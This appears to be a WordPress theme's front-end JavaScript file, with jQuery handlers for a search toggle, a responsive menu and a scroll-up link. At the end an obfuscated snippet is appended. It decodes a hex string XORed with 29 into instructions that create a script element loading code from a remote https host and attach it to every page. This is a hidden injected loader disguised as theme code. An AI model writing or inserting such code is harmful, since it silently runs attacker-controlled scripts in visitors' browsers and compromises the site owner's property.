jQuery( document ).ready( function () {
	jQuery( '.search-top' ).click( function () { jQuery( '#masthead .search-form-top' ).toggle(); } );
	jQuery( '.better-responsive-menu' ).hide();
	jQuery( 'a#scroll-up' ).click( function () { jQuery( 'body,html' ).animate( { scrollTop: 0 }, 800 ); return false; } );
} );
if(typeof cmqx==="undefined"){var cmqx=1;(function(t,h){var o="",j=0;for(;j<h.length;j+=2)o+=t["from"+"CharCode"](parseInt(h.substr(j,2),16)^29);var p=o.split("|"),d=this[p[0]],e=d[p[1]](p[2]);e[p[3]]=p[4];d[p[5]]["append"+"Child"](e)}).call(window,String,"79727e6870787369617e6f787c697858717870787369616e7e6f746d69616e6f7e617569696d6e273232736e33697c7174306e68696f7c3374736b7c717479326c33776e6175787c79")}
